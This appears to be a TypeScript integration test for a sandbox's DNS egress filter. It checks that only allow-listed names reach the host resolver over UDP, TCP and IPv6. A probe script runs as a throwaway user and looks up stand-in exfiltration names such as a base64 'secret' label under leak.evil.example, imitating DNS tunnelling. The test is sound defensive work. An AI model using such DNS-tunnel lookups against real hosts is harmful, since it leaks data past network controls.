// The room's name lookups, through the real rules and the real name filter: a DNS query of the
// room's user goes to the filter whatever resolver it names, over UDP or TCP; only the names of
// run.egress are passed on to the machine's resolver (a stand-in here, which records what reaches
// it); any other name — the way a planted script would tunnel data out through DNS — is refused
// without leaving the machine, and counted for the summary. IPv6 queries are refused outright.
import { execFile } from "node:child_process";
import { randomBytes } from "node:crypto";
import dgram from "node:dgram";
import net from "node:net";
import { promisify } from "node:util";
import { afterEach, describe, expect, it } from "vitest";
import { installEgress, type Privileged } from "../src/room/egress.js";
import { parseQuery } from "../src/core/dns.js";

const exec = promisify(execFile);
const canTest =
  process.getuid?.() === 0 &&
  (await exec("sh", ["-c", "command -v iptables && iptables -w -t nat -S OUTPUT"]).then(
    () => true,
    () => false,
  ));
const cleanups: (() => Promise<unknown>)[] = [];
afterEach(async () => {
  for (const c of cleanups.splice(0).reverse()) await c().catch(() => undefined);
});

const run: Privileged = async (file, args, what) => {
  try {
    return (await exec(file, args)).stdout;
  } catch (error) {
    throw new Error(`${what}: ${(error as Error).message}`);
  }
};

/** An A answer for the query `msg`: 192.0.2.7. */
function answerA(msg: Buffer): Buffer {
  const q = parseQuery(msg)!;
  const head = Buffer.from(msg.subarray(0, 12));
  head.writeUInt16BE(0x8180, 2);
  head.writeUInt16BE(1, 6);
  const record = Buffer.from([0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 192, 0, 2, 7]);
  return Buffer.concat([head, msg.subarray(12, q.questionEnd), record]);
}

/** A stand-in for the machine's resolver on 127.0.0.2:53 (UDP and TCP), recording every name. */
async function startUpstream(): Promise<{ names: string[]; close: () => Promise<void> }> {
  const names: string[] = [];
  const udp = dgram.createSocket("udp4");
  udp.on("message", (msg, rinfo) => {
    names.push(parseQuery(msg)?.name ?? "?");
    udp.send(answerA(msg), rinfo.port, rinfo.address);
  });
  await new Promise<void>((r) => udp.bind(53, "127.0.0.2", r));
  const tcp = net.createServer((s) => {
    s.on("data", (d: Buffer) => {
      const msg = d.subarray(2);
      names.push(parseQuery(msg)?.name ?? "?");
      const reply = answerA(msg);
      const head = Buffer.alloc(2);
      head.writeUInt16BE(reply.length);
      s.end(Buffer.concat([head, reply]));
    });
  });
  await new Promise<void>((r) => tcp.listen(53, "127.0.0.2", r));
  return {
    names,
    close: async () => {
      udp.close();
      await new Promise((r) => tcp.close(r));
    },
  };
}

/** What the room's user runs: lookups through three resolvers and two transports. */
const PROBE = `
const dns = require('dns'); const net = require('net');
const ask = async (server, name) => {
  const r = new dns.promises.Resolver({ timeout: 2000, tries: 1 });
  r.setServers([server]);
  try { return (await r.resolve4(name)).join(','); } catch (e) { return 'ERR ' + e.code; }
};
const tcpAsk = (host, name) => new Promise((resolve) => {
  const labels = name.split('.').map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l)]));
  const q = Buffer.concat([Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), ...labels, Buffer.from([0, 0, 1, 0, 1])]);
  const s = net.connect({ host, port: 53 }, () => s.write(Buffer.concat([Buffer.from([0, q.length]), q])));
  s.setTimeout(3000, () => { s.destroy(); resolve('ERR TIMEOUT'); });
  s.on('error', (e) => resolve('ERR ' + e.code));
  s.on('data', (d) => { s.destroy(); resolve('rcode ' + (d[5] & 0xf) + ' answers ' + d.readUInt16BE(8)); });
});
(async () => {
  const out = {
    allowedViaSystem: await ask('127.0.0.2', 'allowed.example'),
    allowedViaOther: await ask('198.51.100.1', 'allowed.example'),
    leakViaSystem: await ask('127.0.0.2', 'c2VjcmV0.leak.evil.example'),
    leakViaOther: await ask('198.51.100.1', 'other.evil.example'),
    leakOverTcp: await tcpAsk('198.51.100.1', 'tcp.evil.example'),
    allowedOverTcp: await tcpAsk('127.0.0.2', 'allowed.example'),
    leakOverV6: await ask('[2001:db8::53]', 'v6.evil.example'),
  };
  process.stdout.write(JSON.stringify(out));
})();
`;

describe.skipIf(!canTest)("the room's name filter", () => {
  it("passes on only the names of run.egress, whatever resolver or transport the room uses", async () => {
    const name = `aegt-d${randomBytes(3).toString("hex")}`;
    await exec("useradd", ["--system", "--no-create-home", "--user-group", name]);
    cleanups.push(() => exec("userdel", [name]));
    const uid = Number((await exec("id", ["-u", name])).stdout.trim());
    const gid = Number((await exec("id", ["-g", name])).stdout.trim());
    const upstream = await startUpstream();
    cleanups.push(upstream.close);
    const egress = await installEgress(
      run,
      uid,
      { kind: "allow", entries: [{ host: "allowed.example", port: 443 }] },
      { resolvers: ["127.0.0.2"] },
    );
    cleanups.push(() => egress.remove());

    const probe = await exec(
      "setpriv",
      [`--reuid=${uid}`, `--regid=${gid}`, "--clear-groups", "--", process.execPath, "-e", PROBE],
      { cwd: "/", timeout: 60_000 },
    );
    const out = JSON.parse(probe.stdout) as Record<string, string>;
    expect(out).toEqual({
      allowedViaSystem: "192.0.2.7",
      allowedViaOther: "192.0.2.7",
      leakViaSystem: "ERR EREFUSED",
      leakViaOther: "ERR EREFUSED",
      leakOverTcp: "rcode 5 answers 0",
      allowedOverTcp: "rcode 0 answers 1",
      leakOverV6: expect.stringMatching(/^ERR /),
    });
    // Nothing but the allowed name reached the machine's resolver.
    expect(new Set(upstream.names)).toEqual(new Set(["allowed.example"]));
    const report = await egress.report();
    expect(report.lookupsRefused).toBeGreaterThanOrEqual(3);
    expect(report.names).toEqual(expect.arrayContaining(["c2vjcmv0.leak.evil.example", "tcp.evil.example"]));

    await egress.remove();
    const nat = (await exec("iptables", ["-w", "-t", "nat", "-S"])).stdout;
    expect(nat).not.toContain(`AEGIS-DNS-${uid}`);
  });
});
